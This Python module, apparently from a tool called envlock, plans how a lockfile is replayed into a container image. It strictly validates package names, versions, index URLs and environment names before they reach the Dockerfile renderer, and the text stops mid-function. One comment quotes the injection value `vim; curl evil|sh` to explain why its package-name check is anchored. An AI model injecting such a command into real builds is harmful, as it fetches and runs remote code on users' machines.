"""The replay plan: what a lock becomes in an image, decided without any I/O.

``plan_replay(lock, options)`` chooses the base image, turns the resolver's
hash-pinned files into install groups, picks the OS packages and environment
variables that can be set, and states layer by layer what the image will
reproduce exactly, approximately (``differs``) or not at all
(``not-reproducible``), as :class:`~envlock.findings.Finding` objects.

Every lockfile value that the renderer will place into the build context is
checked here a second time with the narrowest rule its use needs (the loader
already checked it against the lockfile schema): Debian package names and
versions (THREATS.md D1, D2), PEP 440 versions (C3), https-only index URLs
(C7, C8), environment names the image does not own (B5).  A value that fails
is left out and reported; it never reaches the renderer.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

from envlock import records
from envlock.errors import ReplayError
from envlock.findings import (
    BLOCKER,
    CHANGED,
    DIFFERS,
    EXACT,
    INFO,
    NOT_REPRODUCIBLE,
    NUMERIC,
    UNKNOWN,
    Finding,
)
from envlock.lockfile import model as m
from envlock.lockfile.identity import fingerprint
from envlock.records import record
from envlock.replay.base_matrix import BaseImage, BaseRequest, check_digest, check_image_ref, choose_base
from envlock.replay.snapshot import ArchiveOptions, anchor_stamps, mirror_source_lines, snapshot_source_lines
from envlock.versions import minor

if TYPE_CHECKING:  # the resolver is imported only for its types
    from envlock.replay.conda import CondaInstall, CondaLocal, CondaUnavailable
    from envlock.replay.uv_tool import UvBinary
    from envlock.resolve import PinSet

# Where things live inside the image.
IMAGE_DIR = "/opt/envlock"
VENV_DIR = "/opt/envlock/venv"
OS_REPORT_PATH = "/opt/envlock/os-report.json"
OS_SCRIPT_PATH = "/opt/envlock/os_packages.py"
LOCK_PATH = "/opt/envlock/envlock.lock"
# Build-stage scratch space (never in the final image).
BUILD_DIR = "/tmp/envlock"
WHEEL_DIR = "/tmp/envlock/wheels"
# A pack's .deb files in the final stage, installed by the OS step and removed by it.
DEB_DIR = "/tmp/envlock/debs"
CA_STAGE_PATH = "/tmp/envlock/ca.crt"
# BuildKit secret id for the CA certificate of a TLS-intercepting proxy.
CA_SECRET_ID = "envlock-ca"
CA_SECRET_PATH = "/run/secrets/envlock-ca"

CA_MODES = ("none", "stage", "secret")
BASE_SOURCES = ("registry", "debootstrap")

# Debian policy, anchored (THREATS.md D1/D2; repo2docker's unanchored check let
# `vim; curl evil|sh` through): a name is lowercase alphanumerics and + . -,
# at least two characters; a version is [epoch:]upstream[-revision].
DEBIAN_NAME = re.compile(r"[a-z0-9][a-z0-9+.-]+")
DEBIAN_VERSION = re.compile(r"(?:[0-9]+:)?[0-9][A-Za-z0-9.+~-]*")
DEBIAN_ARCH = re.compile(r"[a-z0-9][a-z0-9-]*")

# Environment names the image owns (cog's rule, THREATS.md B5): setting them
# from a lock could redirect the interpreter, the loader, pip or the NVIDIA
# container runtime.  CUDA_LAUNCH_BLOCKING and CUDA_MODULE_LOADING are read by
# the CUDA runtime inside the process only, and NVIDIA_TF32_OVERRIDE by the CUDA
# math libraries (not by nvidia-container-toolkit, which reads
# NVIDIA_VISIBLE_DEVICES, NVIDIA_DRIVER_CAPABILITIES and NVIDIA_REQUIRE_*), so
# these three numerics switches are allowed back in.
_IMAGE_OWNED_EXACT = frozenset(
    {"PATH", "HOME", "SHELL", "USER", "VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONUSERBASE"}
)
_IMAGE_OWNED_PREFIXES = ("LD_", "PIP_", "UV_", "CONDA_", "NVIDIA_", "CUDA_", "DOCKER_", "BUILDKIT_")
_IMAGE_OWNED_SUFFIXES = ("_PROXY", "_proxy")
_ENV_ALLOWED_BACK = frozenset({"CUDA_LAUNCH_BLOCKING", "CUDA_MODULE_LOADING", "NVIDIA_TF32_OVERRIDE"})
_ENV_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")

# Installers and build tools: a conda build of these carries no native library.
_PURE_TOOLS = frozenset({"pip", "setuptools", "wheel"})
# Packages a fresh venv brings (ensurepip); removed when the lock does not have them.
_BOOTSTRAP_EXTRAS = ("setuptools",)


def is_image_owned_env(name: str) -> bool:
    """True for names envlock never sets in an image (pure)."""
    if name in _ENV_ALLOWED_BACK:
        return False
    upper = name.upper()
    return (
        name in _IMAGE_OWNED_EXACT
        or upper.startswith(_IMAGE_OWNED_PREFIXES)
        or name.endswith(_IMAGE_OWNED_SUFFIXES)
        or upper.endswith("_PROXY")
    )


# --- inputs ------------------------------------------------------------------------


@record
class BaseFacts:
    """What was read from a ``--base-image`` before planning (a field is None when it could not be read).

    With them the OS and Python layers are planned as for a row of the matrix:
    a bookworm image gets the lock's bookworm packages installed.
    """

    os_id: str | None = None  # os-release ID
    os_version_id: str | None = None  # os-release VERSION_ID
    python_version: str | None = None  # of the image's python3

    def describe(self) -> str:
        os_text = " ".join(x for x in (self.os_id, self.os_version_id) if x) or "OS release unknown"
        return f"{os_text}, Python {self.python_version or 'unknown'}"


@record
class ReplayOptions:
    """What the caller decides; every field has a safe default.

    ``pins`` is the resolver's answer (:class:`envlock.resolve.PinSet`); without
    it no Python package can be installed hash-checked, and the plan says so.
    ``ca_mode``: ``"stage"`` copies the CA certificate into the build stage only
    (works with the legacy builder), ``"secret"`` mounts it as a BuildKit secret
    (id ``envlock-ca``) for pip and apt, ``"none"`` when there is no CA.
    """

    base_image: str | None = None
    base_source: str = "registry"
    # What the engine knows about the base before planning: its registry digest,
    # and for a --base-image what was read from it (OS release, Python).
    base_digest: str | None = None
    base_facts: BaseFacts | None = None
    require_digest: bool = False
    pins: PinSet | None = None
    allow_sdists: bool = False
    ca_mode: str = "none"
    ca_cert: bytes | None = None
    archive: ArchiveOptions | None = None  # site mirror / snapshot / archive base URLs for the OS layer
    # The installer (issue 13): a checked uv executable (envlock.replay.uv_tool),
    # or None for pip; and the builder the Dockerfile is rendered for.
    uv: UvBinary | None = None
    builder: str = "buildkit"
    # .deb files on this machine (from a pack): the OS step installs these and reads no apt source.
    local_debs: tuple[str, ...] = ()
    # The conda layer: packages from this channel instead of their recorded URLs
    # (a mirror), and the conda platform of the image.
    conda_channel_url: str | None = None
    conda_platform: str = "linux-64"
    # Archive URLs their server says are gone (a finding each), or a pack's conda files.
    conda_unavailable: tuple[CondaUnavailable, ...] = ()
    conda_local: CondaLocal | None = None
    # The index the user named for Python files (None: PyPI): the conda stage's
    # py-rattler comes from it too, as the pins do.
    installer_index_url: str | None = None


# --- the plan ----------------------------------------------------------------------


@record
class Requirement:
    """One line of a hash-pinned requirements file."""

    name: str
    version: str
    sha256: str  # 64 lowercase hex
    url: str | None = None  # a direct https URL (direct group only)
    # The pinned file's name and size, when known: the renderer puts large and
    # compiled wheels in layers of their own (issue 13), never in the file's text.
    filename: str | None = None
    size: int | None = None

    def line(self) -> str:
        spec = f"{self.name} @ {self.url}" if self.url else f"{self.name}=={self.version}"
        return f"{spec} --hash=sha256:{self.sha256}"


@record
class InstallGroup:
    """Requirements installed by one ``pip install`` (one index, or the wheelhouse, or direct URLs)."""

    kind: str  # "index", "wheelhouse" or "direct"
    index_url: str | None
    binary_only: bool
    requirements: tuple[Requirement, ...]

    def pip_install_argv(
        self, python: str, requirements_file: str, wheel_dir: str, ca_file: str | None, extra: tuple[str, ...] = ()
    ) -> list[str]:
        """The one ``pip install`` command line for this group, in an image or a local venv.

        Hash-checked and without re-resolving (``--require-hashes --no-deps``);
        ``--isolated`` so no pip configuration of the machine (extra indexes,
        find-links) can change what is installed.
        """
        argv = [python, "-m", "pip", "install", "--isolated", "--disable-pip-version-check", "--no-input", *extra]
        argv += ["--require-hashes", "--no-deps"]
        if self.binary_only:
            argv += ["--only-binary", ":all:"]
        if ca_file:
            argv += ["--cert", ca_file]
        if self.kind == "index":
            assert self.index_url is not None  # the planner gives every index group its URL
            argv += ["--index-url", self.index_url]
        elif self.kind == "wheelhouse":
            argv += ["--no-index", "--find-links", wheel_dir]
        else:
            argv += ["--no-index"]
        return argv + ["-r", requirements_file]


@record
class WheelhouseFile:
    """A file from the user's wheelhouse that goes into the build context."""

    filename: str
    sha256: str
    local_path: str


@record
class OsPin:
    name: str
    version: str

    def arg(self) -> str:
        return f"{self.name}={self.version}"


@record
class ReplayPlan:
    lock: m.Lock
    fingerprint: str
    base_image: str  # the reference as chosen (tag form)
    base_source: str  # "registry", "debootstrap" or "user"
    base: BaseImage | None  # the matrix row; for --base-image what was read from it (kind "user"), or None
    python_from: str  # "image" or "apt"
    apt_bootstrap: tuple[str, ...]  # Debian packages that give the base python3 + venv
    install_groups: tuple[InstallGroup, ...]
    wheelhouse: tuple[WheelhouseFile, ...]
    remove_after_install: tuple[str, ...]
    os_step: bool  # run the OS package script (apt bases whose release matches the lock)
    os_packages: tuple[OsPin, ...]
    env: tuple[tuple[str, str], ...]
    findings: tuple[Finding, ...]
    ca_mode: str = "none"
    ca_cert: bytes | None = None
    require_digest: bool = False
    # apt source lines: replacing the image's own (site mirror, archived release), and
    # the snapshot archive at the lock's time, added only for versions the mirror lacks.
    os_sources: tuple[str, ...] = ()
    os_fallbacks: tuple[str, ...] = ()
    # .deb files to copy into the build context (context name, path on this machine): a pack's OS layer.
    os_local_debs: tuple[tuple[str, str], ...] = ()
    # The base image's registry digest, when the engine resolved it before planning.
    base_digest: str | None = None
    uv: UvBinary | None = None  # None: pip installs (no uv wheel for the image's architecture)
    builder: str = "buildkit"  # "buildkit" or "sdk" (the legacy builder: no mounts)
    # The lock's conda packages, installed exactly into a prefix that is the image's Python.
    conda: CondaInstall | None = None

    @property
    def interpreter(self) -> str:
        """The image's Python: the conda prefix's when the conda layer is replayed, else the venv's."""
        if self.conda is not None:
            return f"{self.conda.prefix}/bin/python"
        return f"{VENV_DIR}/bin/python"

    @property
    def from_ref(self) -> str:
        """What ``FROM`` says: the reference pinned by digest once it is known."""
        if self.base_digest is None:
            return self.base_image
        name = self.base_image.split("@", 1)[0]
        return f"{name}@{self.base_digest}"

    @property
    def pinned_by_digest(self) -> bool:
        return self.base_digest is not None or "@sha256:" in self.base_image

    def with_base_digest(self, digest: str) -> ReplayPlan:
        """The same plan with the base image pinned by its registry digest (sha256:<64 hex>)."""
        return records.replace(self, base_digest=check_digest(digest))

    @property
    def python_requirement_count(self) -> int:
        return sum(len(group.requirements) for group in self.install_groups)


# --- planning ----------------------------------------------------------------------


def plan_replay(lock: m.Lock, options: ReplayOptions | None = None) -> ReplayPlan:
    """The replay plan for ``lock`` (pure): ``ReplayError`` when no base image fits."""
    opts = options or ReplayOptions()
    if opts.base_source not in BASE_SOURCES:
        raise ReplayError(f"base source {opts.base_source!r} is not one of {', '.join(BASE_SOURCES)}")
    if opts.ca_mode not in CA_MODES:
        raise ReplayError(f"CA mode {opts.ca_mode!r} is not one of {', '.join(CA_MODES)}")
    if opts.ca_mode == "stage" and not opts.ca_cert:
        raise ReplayError("CA mode 'stage' needs the certificate's bytes", hint="pass --ca-cert FILE")
    findings: list[Finding] = []

    conda = _conda_layer(lock, opts, findings)
    base, base_image, base_source, python_from, cuda_missing = _choose(_with_conda_python(lock, conda), opts)
    if conda is None:
        groups, wheelhouse, remove = _python_layer(lock, opts, base, base_source, findings)
    else:
        groups, wheelhouse, remove = _pip_on_conda(lock, opts, base, base_source, findings)
    os_step, os_packages = _os_layer(lock, base, base_source, findings)
    os_sources, os_fallbacks = _os_sources(lock, os_packages, opts.archive or ArchiveOptions()) if os_step else ((), ())
    local_debs = _local_debs(opts.local_debs) if os_step else ()
    if local_debs:
        os_sources, os_fallbacks = (), ()
    env = _env_layer(lock, findings)
    _cuda_layer(lock, base, base_source, findings, cuda_missing)
    _host_layers(lock, findings)
    if opts.require_digest:
        findings.append(
            Finding(
                layer="host",
                path="replay.base-image",
                severity=INFO,
                message="strict mode: the base image must be pinned by digest before the Dockerfile is rendered",
                status=UNKNOWN,
                rank=200,
            )
        )
    return ReplayPlan(
        lock=lock,
        fingerprint=fingerprint(lock),
        base_image=base_image,
        base_source=base_source,
        base=base,
        python_from=python_from,
        apt_bootstrap=("python3", "python3-venv") if python_from == "apt" else (),
        install_groups=groups,
        wheelhouse=wheelhouse,
        remove_after_install=remove,
        os_step=os_step,
        os_packages=os_packages,
        env=env,
        findings=tuple(findings),
        ca_mode=opts.ca_mode,
        ca_cert=opts.ca_cert if opts.ca_mode == "stage" else None,
        require_digest=opts.require_digest,
        base_digest=check_digest(opts.base_digest) if opts.base_digest else None,
        os_sources=os_sources,
        os_fallbacks=os_fallbacks,
        uv=opts.uv,
        builder=opts.builder,
        os_local_debs=local_debs,
        conda=conda,
    )


def system_cuda(lock: m.Lock) -> tuple[str | None, str | None, bool]:
    """(CUDA major.minor, cuDNN major, has nvcc) of a *system* CUDA toolkit in the lock (pure)."""
    if lock.cuda is None:
        return None, None, False
    system = {c.name.lower(): c.version for c in lock.cuda.components if c.source == "system"}
    cuda_version = None
    for name in ("cudart", "cuda-runtime", "cuda-toolkit", "cuda", "nvcc"):
        if name in system:
            cuda_version = minor(system[name])
            break
    cudnn = system.get("cudnn")
    cudnn_major = cudnn.split(".")[0] if cudnn else None
    return cuda_version, cudnn_major, "nvcc" in system


def _choose(lock: m.Lock, opts: ReplayOptions) -> tuple[BaseImage | None, str, str, str, str | None]:
    """(base row, reference, source, where Python comes from, why the system CUDA toolkit is missing)."""
    if opts.base_image is not None:
        ref = check_image_ref(opts.base_image, "--base-image")
        return _user_base(ref, opts.base_facts), ref, "user", "image", None
    row, cuda_missing = choose_matrix_base(lock, opts.base_source)
    return row, row.image, opts.base_source, row.python_from, cuda_missing


def _user_base(ref: str, facts: BaseFacts | None) -> BaseImage | None:
    """A --base-image described like a matrix row from what was read from it; None when nothing was."""
    if facts is None or (facts.os_id is None and facts.python_version is None):
        return None
    return BaseImage(
        kind="user",
        python=minor(facts.python_version) or "?",
        distro=facts.os_id or "?",
        distro_version=facts.os_version_id or "?",
        cuda=None,
        cudnn=None,
        flavor=None,
        image=ref,
        python_patch=facts.python_version,
        python_from="image",
        source="user",
    )


def choose_matrix_base(lock: m.Lock, source: str = "registry") -> tuple[BaseImage, str | None]:
    """The matrix row for ``lock`` (pure), and why the lock's system CUDA toolkit is not in it (or None).

    No row with the lock's CUDA toolkit is not a reason to refuse the whole
    lock: the rest is replayed on the best row without CUDA, and the plan
    reports each toolkit component as not reproducible, with this reason.
    """
    python_version = lock.python.version if lock.python else None
    python_minor = minor(python_version)
    if python_minor is None:
        raise ReplayError(
            "the lock records no Python version, so no base image can be chosen",
            hint="pass --base-image IMAGE (an image with python3 and its venv module)",
        )
    cuda, cudnn, nvcc = system_cuda(lock)
    request = BaseRequest(
        python=python_minor,
        distro=lock.os.id if lock.os else None,
        distro_version=lock.os.version_id if lock.os else None,
        cuda=cuda,
        cudnn=cudnn,
        devel=nvcc,
        source=source,
    )
    try:
        return choose_base(request), None
    except ReplayError as exc:
        if not _has_system_cuda(lock):
            raise
        reason = exc.message
    return choose_base(records.replace(request, cuda=None, cudnn=None, devel=False)), reason


def _has_system_cuda(lock: m.Lock) -> bool:
    return lock.cuda is not None and any(c.source == "system" for c in lock.cuda.components)


# --- Python ------------------------------------------------------------------------

_HEX64 = re.compile(r"[0-9a-f]{64}")
# https only, no credentials, none of the characters that a requirements file,
# a shell or Docker would read specially, no encoded dots or slashes (C8).
_PORTABLE_URL = re.compile(r"https://[A-Za-z0-9.-]+(?::[0-9]{1,5})?(?:/[A-Za-z0-9._~!+,;=:@%/-]*)?")
_ENCODED_TRAVERSAL = re.compile(r"%(?:2e|2f|5c|00)", re.IGNORECASE)


def _portable_url(url: str | None) -> bool:
    if not url or len(url) > 2048 or not _PORTABLE_URL.fullmatch(url):
        return False
    authority = url[len("https://") :].split("/", 1)[0]
    if "@" in authority or _ENCODED_TRAVERSAL.search(url):
        return False
    path = url[len("https://") + len(authority) :]
    return "/../" not in path + "/" and not path.endswith("/..")


def _pep440(version: str) -> bool:
    from packaging.version import InvalidVersion, Version

    try:
        Version(version)
    except InvalidVersion:
        return False
    return True


def _python_layer(
    lock: m.Lock,
    opts: ReplayOptions,
    base: BaseImage | None,
    base_source: str,
    findings: list[Finding],
) -> tuple[tuple[InstallGroup, ...], tuple[WheelhouseFile, ...], tuple[str, ...]]:
    from packaging.utils import canonicalize_name

    python = lock.python
    if python is None:
        findings.append(
            Finding(
                "python",
                "python",
                INFO,
                "the lock has no Python layer; the image gets an empty virtual environment",
                status=UNKNOWN,
                rank=120,
            )
        )
        return (), (), _BOOTSTRAP_EXTRAS
    _interpreter_finding(python, base, base_source, findings)
    packages = {canonicalize_name(p.name): p for p in python.packages}
    remove = tuple(name for name in _BOOTSTRAP_EXTRAS if name not in packages)
    if "pip" not in packages:
        findings.append(
            Finding(
                "python",
                "python.packages[pip]",
                INFO,
                "pip is not in the lock; the virtual environment keeps the pip its Python bootstraps, so `pip` works in the image",
                status=CHANGED,
                rank=190,
            )
        )
    if not packages:
        return (), (), remove
    pinset = opts.pins
    if pinset is None:
        findings.append(
            Finding(
                "python",
                "python.packages",
                BLOCKER,
                f"{len(packages)} packages were not resolved to hash-pinned files, so none is installed",
                why="replay installs only files whose sha256 is known, to get exactly the locked files",
                fix="run replay with network access to the index (or --index-url MIRROR), or pass --find-links DIR with the wheels",
                status=NOT_REPRODUCIBLE,
                rank=70,
            )
        )
        return (), (), remove

    accounted: set[str] = set()
    for item in pinset.to_findings():
        findings.append(item)
    for problem in pinset.problems:
        accounted.add(canonicalize_name(problem.name))
    for ref in pinset.vcs:
        accounted.add(canonicalize_name(ref.name))
        findings.append(
            Finding(
                "python",
                f"python.packages[{ref.name}]",
                BLOCKER,
                f"{ref.name} {ref.version} is not installed: a VCS checkout cannot be installed with --require-hashes",
                fix="build a wheel from that commit and pass its directory with --find-links",
                locked=ref.commit,
                status=NOT_REPRODUCIBLE,
                rank=75,
            )
        )

    grouped: dict[tuple[str, str | None, bool], list[Requirement]] = {}
    wheelhouse: dict[str, WheelhouseFile] = {}
    exact = 0
    for pin in pinset.pins:
        key = canonicalize_name(pin.name)
        accounted.add(key)
        locked = packages.get(key)
        why_not = _pin_problem(pin, locked, opts)
        if why_not or locked is None:  # _pin_problem names a pin the lock lacks, so both hold together
            findings.append(
                Finding(
                    "python",
                    f"python.packages[{pin.name}]",
                    BLOCKER,
                    f"{pin.name} {pin.version} is not installed: {why_not}",
                    fix="resolve the lock again (replay does it) or pass --find-links DIR with the file",
                    locked=locked.version if locked else None,
                    status=NOT_REPRODUCIBLE,
                    rank=75,
                )
            )
            continue
        sha = pin.sha256.lower()
        binary_only = pin.kind == "wheel"
        group_key: tuple[str, str | None, bool]
        if pin.wheelhouse_file:
            wheelhouse[pin.filename] = WheelhouseFile(pin.filename, sha, pin.wheelhouse_file)
            group_key = ("wheelhouse", None, binary_only)
            requirement = Requirement(locked.name, locked.version, sha, filename=pin.filename, size=pin.size)
        elif pin.index:
            group_key = ("index", pin.index, binary_only)
            requirement = Requirement(locked.name, locked.version, sha, filename=pin.filename, size=pin.size)
        else:
            group_key = ("direct", None, binary_only)
            requirement = Requirement(
                locked.name, locked.version, sha, url=pin.url, filename=pin.filename, size=pin.size
            )
        grouped.setdefault(group_key, []).append(requirement)
        if (locked.installer or "").lower() == "conda":
            findings.append(
                Finding(
                    "python",
                    f"python.packages[{locked.name}]",
                    DIFFERS if key in _PURE_TOOLS else NUMERIC,
                    f"{locked.name} {locked.version} was installed by conda; the image gets the wheel from {pin.index or 'its URL'}",
                    why="a conda build and a PyPI wheel of the same version can link different BLAS/OpenMP libraries",
                    fix="replay the conda environment with conda itself (conda-lock / conda list --explicit)",
                    locked=locked.version,
                    actual=pin.filename,
                    status=CHANGED,
                    rank=60,
                )
            )
        else:
            exact += 1
    for key, locked in sorted(packages.items()):
        if key not in accounted:
            findings.append(
                Finding(
                    "python",
                    f"python.packages[{locked.name}]",
                    BLOCKER,
                    f"{locked.name} {locked.version} was not resolved, so it is not installed",
                    fix="resolve the lock again with access to its index",
                    locked=locked.version,
                    status=NOT_REPRODUCIBLE,
                    rank=75,
                )
            )
    if exact:
        findings.append(
            Finding(
                "python",
                "python.packages",
                INFO,
                f"{exact} packages are installed from hash-pinned files, without re-resolving (--require-hashes --no-deps)",
                status=EXACT,
                rank=200,
            )
        )
    order = {"wheelhouse": 0, "index": 1, "direct": 2}
    groups = tuple(
        InstallGroup(kind, index, binary_only, tuple(sorted(reqs, key=lambda r: canonicalize_name(r.name))))
        for (kind, index, binary_only), reqs in sorted(
            grouped.items(), key=lambda item: (order[item[0][0]], item[0][1] or "", not item[0][2])
        )
    )
    return groups, tuple(wheelhouse[name] for name in sorted(wheelhouse)), remove


def _pin_problem(pin, locked: m.PythonPackage | None, opts: ReplayOptions) -> str | None:
    """Why a resolver pin cannot go into the build context, or None (the second fence)."""
    from packaging.version import Version

    if locked is None:
        return "the resolver returned a package that the lock does not have"
    if not _pep440(locked.version):
        return f"{locked.version!r} is not a PEP 440 version, which pip needs to install it"
    if not _pep440(pin.version) or Version(pin.version) != Version(locked.version):
        return f"the resolver pinned version {pin.version!r}, not the locked {locked.version!r}"
    if not _HEX64.fullmatch(pin.sha256.lower()):
        return "the pinned file has no valid sha256"
    if pin.kind != "wheel" and not opts.allow_sdists:
        return "only a source distribution is available, and sdists are opt-in (they run code at build time)"
    if pin.wheelhouse_file:
        if not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._+-]*\.(?:whl|tar\.gz|zip)", pin.filename):
            return f"wheelhouse file name {pin.filename[:80]!r} is not a plain distribution file name"
        return None
    if pin.index:
        return None if _portable_url(pin.index) else f"its index {pin.index[:80]!r} is not a portable https URL"
    if not _portable_url(pin.url):
        return f"its URL {str(pin.url)[:80]!r} is not a portable https URL"
    return None


def _interpreter_finding(
    python: m.PythonSection, base: BaseImage | None, base_source: str, findings: list[Finding]
) -> None:
    impl = (python.implementation or "cpython").lower()
    if impl not in ("cpython", "cp"):
        findings.append(
            Finding(
                "python",
                "python.implementation",
                BLOCKER,
                f"the lock used {python.implementation}; every base image in the matrix has CPython",
                fix="pass --base-image with that interpreter",
                locked=python.implementation,
                actual="cpython",
                status=NOT_REPRODUCIBLE,
                rank=50,
            )
        )
    locked = python.version
    if base is None or base.python_patch is None and base_source == "user":
        findings.append(
            Finding(
                "python",
                "python.version",
                INFO,
                "the Python of the --base-image is not known until the image is verified",
                locked=locked,
                status=UNKNOWN,
                rank=150,
            )
        )
        return
    if base.python_patch is None:
        findings.append(
            Finding(
                "python",
                "python.version",
                DIFFERS,
                f"{base.image} follows the newest {base.python}.x patch release; the patch level may differ from the lock",
                why="patch releases fix bugs and rarely change numerics, but they are not the locked interpreter",
                fix="pass --base-image python:<exact version>-slim-<release> to pin the patch release",
                locked=locked,
                actual=f"{base.python}.x",
                status=CHANGED,
                rank=150,
            )
        )
    elif base_source == "user" and minor(base.python_patch) != minor(locked):
        findings.append(
            Finding(
                "python",
                "python.version",
                BLOCKER,
                f"{base.image} has Python {base.python_patch}; the lock has {locked}",
                why="wheels built for one Python minor release do not install on another",
                fix=f"pass a --base-image with Python {minor(locked)}, or leave --base-image out",
                locked=locked,
                actual=base.python_patch,
                status=NOT_REPRODUCIBLE,
                rank=50,
            )
        )
    elif base.python_patch == locked:
        findings.append(
            Finding(
                "python",
                "python.version",
                INFO,
                f"{base.image} has Python {locked}",
                locked=locked,
                actual=locked,
                status=EXACT,
                rank=200,
            )
        )
    else:
        how = {
            "debootstrap": "built with debootstrap from the Debian mirror",
            "user": "read from the image before planning",
        }.get(base_source, "from the distribution archive")
        findings.append(
            Finding(
                "python",
                "python.version",
                DIFFERS,
                f"{base.image} has Python {base.python_patch} ({how}); the lock has {locked}",
                why="the same minor release keeps the wheels installable; the patch level differs",
                fix="pass --base-image with the exact Python release if a registry is reachable",
                locked=locked,
                actual=base.python_patch,
                status=CHANGED,
                rank=150,
            )
        )


# --- OS ----------------------------------------------------------------------------


def _os_layer(
    lock: m.Lock, base: BaseImage | None, base_source: str, findings: list[Finding]
) -> tuple[bool, tuple[OsPin, ...]]:
    osec = lock.os
    if osec is None:
        findings.append(
            Finding(
                "os",
                "os",
                INFO,
                "the lock has no OS layer; the image has the base image's OS packages",
                status=UNKNOWN,
                rank=180,
            )
        )
        return False, ()
    manual = [p for p in osec.packages if p.manual is True]
    other = [p for p in osec.packages if p.manual is not True]
    if base is None or base.distro == "?":
        same_release = False
        why_not = "the OS release of the --base-image could not be read before planning"
    else:
        same_release = osec.id == base.distro and osec.version_id == base.distro_version
        why_not = f"the lock is from {osec.id or '?'} {osec.version_id or '?'} and the base image is {base.distro} {base.distro_version}"
    if osec.package_manager not in (None, "dpkg"):
        same_release = False
        why_not = (
            f"the lock's packages are {osec.package_manager} packages; replay installs Debian/Ubuntu packages with apt"
        )
    if base is not None and base.distro != "?":
        read = " (read from the image)" if base_source == "user" else ""
        findings.append(
            Finding(
                "os",
                "os.release",
                INFO if same_release else DIFFERS,
                f"OS release: {base.distro} {base.distro_version} ({base.image}){read}",
                locked=f"{osec.id or '?'} {osec.version_id or '?'}",
                actual=f"{base.distro} {base.distro_version}",
                status=EXACT if same_release else CHANGED,
                rank=170,
            )
        )
    if osec.glibc:
        findings.append(
            Finding(
                "os",
                "os.glibc",
                INFO if same_release else DIFFERS,
                "glibc comes with the OS release"
                + (" (the same release as the lock)" if same_release else " of the base image"),
                locked=osec.glibc,
                status=EXACT if same_release else CHANGED,
                rank=170,
            )
        )
    if other:
        findings.append(
            Finding(
                "os",
                "os.packages",
                INFO,
                f"{len(other)} OS packages that were not installed by hand come with the base image or as dependencies, at the mirror's versions",
                why="replay pins only the packages installed on purpose; the rest follow from them",
                status=CHANGED,
                rank=185,
            )
        )
    if not same_release:
        for pkg in manual:
            findings.append(
                Finding(
                    "os",
                    f"os.packages[{pkg.name}]",
                    DIFFERS,
                    f"{pkg.name} {pkg.version} is not installed: {why_not}",
                    fix="install it in a Dockerfile FROM the replayed image, or replay on a base with the lock's release",
                    locked=pkg.version,
                    status=NOT_REPRODUCIBLE,
                    rank=160,
                )
            )
        return False, ()
    pins: list[OsPin] = []
    for pkg in manual:
        problem = None
        if not DEBIAN_NAME.fullmatch(pkg.name) or len(pkg.name) > 128:
            problem = f"{pkg.name[:60]!r} is not a Debian package name"
        elif not DEBIAN_VERSION.fullmatch(pkg.version) or len(pkg.version) > 128:
            problem = f"{pkg.version[:60]!r} is not a Debian version"
        elif pkg.architecture and not DEBIAN_ARCH.fullmatch(pkg.architecture):
            problem = f"{pkg.architecture[:30]!r} is not a Debian architecture"
        if problem:
            findings.append(
                Finding(
                    "os",
                    f"os.packages[{pkg.name}]",
                    DIFFERS,
                    f"not installed: {problem}",
                    locked=pkg.version,
                    status=NOT_REPRODUCIBLE,
                    rank=160,
                )
            )
            continue
        pins.append(OsPin(pkg.name, pkg.version))
    pins.sort(key=lambda p: p.name)
    if not pins:
        return False, ()
    if pins:
        findings.append(
            Finding(
                "os",
                "os.packages",
                INFO,
                f"{len(pins)} hand-installed OS packages are installed at their exact locked versions, from the mirror "
                "or, where the mirror dropped one, from the snapshot archive at the lock's time; a version neither has "
                f"is not installed (never replaced by another); the build writes {OS_REPORT_PATH} and verify reports it",
                status=EXACT,
                rank=200,
            )
        )
    return True, tuple(pins)


_DEB_FILE = re.compile(r"[A-Za-z0-9][A-Za-z0-9.+~_%-]{0,200}\.deb")


def _local_debs(paths: tuple[str, ...]) -> tuple[tuple[str, str], ...]:
    """(file name, path) of each local .deb, each name checked: it becomes a build-context path and an argv element."""
    out = []
    for path in paths:
        name = path.replace("\\", "/").rsplit("/", 1)[-1]
        if not _DEB_FILE.fullmatch(name):
            raise ReplayError(f"{name[:80]!r} is not a .deb file name envlock installs")
        out.append((name, path))
    return tuple(sorted(out))


def _os_sources(
    lock: m.Lock, pins: tuple[OsPin, ...], archive: ArchiveOptions
) -> tuple[tuple[str, ...], tuple[str, ...]]:
    """The apt sources of the OS step: (replacing the image's, snapshot fallbacks).

    The time anchor is ``os.snapshot-time`` (set by ``envlock pin``), else the
    capture time; each pinned package's ``first-seen`` adds the archive state
    that still had a version superseded before the capture.
    """
    osec = lock.os
    if osec is None or not osec.codename or osec.id not in ("debian", "ubuntu"):
        return (), ()
    pinned = {pin.name for pin in pins}
    first_seen: list[str | None] = [p.first_seen for p in osec.packages if p.name in pinned and p.first_seen]
    stamps = anchor_stamps(osec.snapshot_time or lock.created_at, first_seen)
    return (
        tuple(mirror_source_lines(osec.id, osec.codename, archive)),
        tuple(snapshot_source_lines(osec.id, osec.codename, stamps, archive)),
    )


# --- environment -------------------------------------------------------------------


def _env_layer(lock: m.Lock, findings: list[Finding]) -> tuple[tuple[str, str], ...]:
    from envlock.lockfile.allowed_env import is_allowed_env_name

    if lock.runtime is None:
        return ()
    out = []
    for name in sorted(lock.runtime.env):
        value = lock.runtime.env[name]
        if not _ENV_NAME.fullmatch(name) or not is_allowed_env_name(name) or is_image_owned_env(name):
            findings.append(
                Finding(
                    "runtime",
                    f"runtime.env.{name}",
                    NUMERIC,
                    f"{name} is not set in the image: the image owns that name, or it is not an allow-listed numerics variable",
                    fix=f"set it when the container starts: docker run -e {name}=...",
                    locked=value,
                    status=NOT_REPRODUCIBLE,
                    rank=40,
                )
            )
            continue
        out.append((name, value))
    if out:
        findings.append(
            Finding(
                "runtime",
                "runtime.env",
                INFO,
                f"{len(out)} numerics variables are set in the image with ENV: " + ", ".join(n for n, _ in out),
                status=EXACT,
                rank=200,
            )
        )
    return tuple(out)


# --- CUDA, conda and the host ------------------------------------------------------


def _cuda_layer(
    lock: m.Lock, base: BaseImage | None, base_source: str, findings: list[Finding], missing: str | None = None
) -> None:
    """One finding per CUDA component; ``missing`` says why no base image has the lock's system toolkit."""
    if lock.cuda is None:
        return
    for comp in sorted(lock.cuda.components, key=lambda c: (c.name, c.source)):
